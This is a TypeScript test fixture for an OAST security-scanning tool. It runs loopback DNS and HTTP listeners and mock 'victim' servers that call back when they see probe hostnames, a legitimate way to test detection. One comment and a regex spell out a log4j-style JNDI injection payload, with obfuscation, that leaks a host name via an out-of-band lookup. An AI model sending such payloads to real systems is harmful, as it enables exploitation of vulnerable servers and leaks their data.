/**
 * Loopback fixtures for OAST tests: the OAST service (HTTP and DNS listeners on 127.0.0.1, free ports) on an
 * in-process pub/sub, and a "vulnerable" server that finds `<id>.oast.test` in what it receives and calls back
 * to the listeners the way a target fetching or resolving the URL would.
 */
import dgram from 'node:dgram';
import http from 'node:http';
import net, { type AddressInfo } from 'node:net';
import dnsPacket from 'dns-packet';
import { createLogger } from '../../src/logger.js';
import { createAppPubSub, type PubSub } from '../../src/pubsub.js';
import { startOastService, type OastService } from '../../src/oast/service.js';

export const OAST_DOMAIN = 'oast.test';
const OAST_HOST = /[a-z0-9]{33}\.oast\.test/i;

export interface OastFixture {
  pubsub: PubSub;
  service: OastService;
  stop(): Promise<void>;
}

export async function startOast(options: { maxInteractionsPerId?: number; pubsub?: PubSub } = {}): Promise<OastFixture> {
  const log = createLogger('silent');
  const pubsub = options.pubsub ?? createAppPubSub(undefined, log).pubsub;
  const service = await startOastService({
    env: {
      OAST_DOMAIN,
      OAST_LISTEN_HOST: '127.0.0.1',
      OAST_HTTP_PORT: 0,
      OAST_DNS_PORT: 0,
      OAST_PUBLIC_IP: '192.0.2.7',
      OAST_EVICTION_SECONDS: 600,
      OAST_MAX_INTERACTIONS_PER_ID: options.maxInteractionsPerId ?? 1000,
    },
    pubsub,
    log,
  });
  return { pubsub, service, stop: () => service.stop() };
}

/** One DNS question over UDP to the listener; resolves with the decoded answer (or undefined after 1 s). */
export function askDns(port: number, name: string, type: 'A' | 'TXT' | 'AAAA' = 'A'): Promise<(dnsPacket.DecodedPacket & { rcode?: string }) | undefined> {
  const socket = dgram.createSocket('udp4');
  return new Promise((resolve) => {
    const timer = setTimeout(() => finish(undefined), 1_000);
    const finish = (answer: (dnsPacket.DecodedPacket & { rcode?: string }) | undefined) => {
      clearTimeout(timer);
      socket.close();
      resolve(answer);
    };
    socket.on('message', (message) => finish(dnsPacket.decode(message) as dnsPacket.DecodedPacket & { rcode?: string }));
    socket.send(dnsPacket.encode({ type: 'query', id: 4242, flags: dnsPacket.RECURSION_DESIRED, questions: [{ type, name }] }), port, '127.0.0.1');
  });
}

/** An HTTP request to the listener as if `host` resolved to it. */
export function fetchOast(port: number, host: string, path = '/'): Promise<{ status: number; body: string }> {
  return new Promise((resolve, reject) => {
    const req = http.request({ host: '127.0.0.1', port, path, headers: { host, 'user-agent': 'victim/1.0' } }, (res) => {
      let body = '';
      res.on('data', (chunk) => (body += chunk));
      res.on('end', () => resolve({ status: res.statusCode ?? 0, body }));
    });
    req.on('error', reject);
    req.end();
  });
}

export interface VictimServer {
  baseUrl: string;
  /** OAST host names the server saw. */
  seen: string[];
  close(): Promise<void>;
}

/**
 * `/dns` resolves the OAST name it finds, `/http` fetches it (after resolving, as a real client does), `/quiet`
 * does neither; every path answers 200 "ok" after its callbacks are made, except `/hang` (resolves, then drops
 * the connection).
 */
export async function startVictim(oast: OastService): Promise<VictimServer> {
  const seen: string[] = [];
  const server = http.createServer((req, res) => {
    let body = '';
    req.on('data', (chunk) => (body += chunk));
    req.on('end', async () => {
      const text = `${req.url}\n${JSON.stringify(req.headers)}\n${body}`;
      const host = OAST_HOST.exec(text)?.[0];
      const path = new URL(req.url ?? '/', 'http://x').pathname;
      // a log4j-style lookup: `${jndi:ldap://${:-123}${:-456}.${hostName}.<oast>/x}` resolved as a vulnerable logger would
      const jndi = /\$\{jndi:ldap:\/\/(.+?\.oast\.test)\//i.exec(decodeURIComponent(body))?.[1];
      if (host && jndi && path.startsWith('/log4j')) {
        seen.push(host);
        await askDns(oast.dnsPort, jndi.replace(/\$\{:-([^}]*)\}/g, '$1').replace(/\$\{hostName\}/g, 'victim-host'));
      } else if (host) {
        seen.push(host);
        if (path.startsWith('/dns') || path.startsWith('/http') || path.startsWith('/hang')) await askDns(oast.dnsPort, host);
        if (path.startsWith('/http')) await fetchOast(oast.httpPort, host, '/callback').catch(() => undefined);
      }
      // `/hang`: the payload ran (the callback is made) but the request never gets an answer
      if (path.startsWith('/hang')) return req.socket.destroy();
      res.writeHead(200, { 'content-type': 'text/plain' }).end('ok');
    });
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  return {
    baseUrl: `http://127.0.0.1:${(server.address() as AddressInfo).port}`,
    seen,
    close: () => new Promise<void>((resolve) => server.close(() => resolve())),
  };
}

/** A TCP service that resolves the OAST name found in what it is sent (unless it holds "quiet"), then answers "220 done". */
export async function startTcpVictim(oast: OastService): Promise<{ port: number; close(): Promise<void> }> {
  const server = net.createServer((socket) => {
    let text = '';
    socket.on('error', () => socket.destroy());
    socket.on('data', async (chunk) => {
      text += chunk.toString('latin1');
      const host = OAST_HOST.exec(text)?.[0];
      if (!host && !text.includes('\n')) return;
      if (host && !text.includes('quiet')) await askDns(oast.dnsPort, host);
      socket.end('220 done\r\n');
    });
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  return { port: (server.address() as AddressInfo).port, close: () => new Promise<void>((resolve) => server.close(() => resolve())) };
}
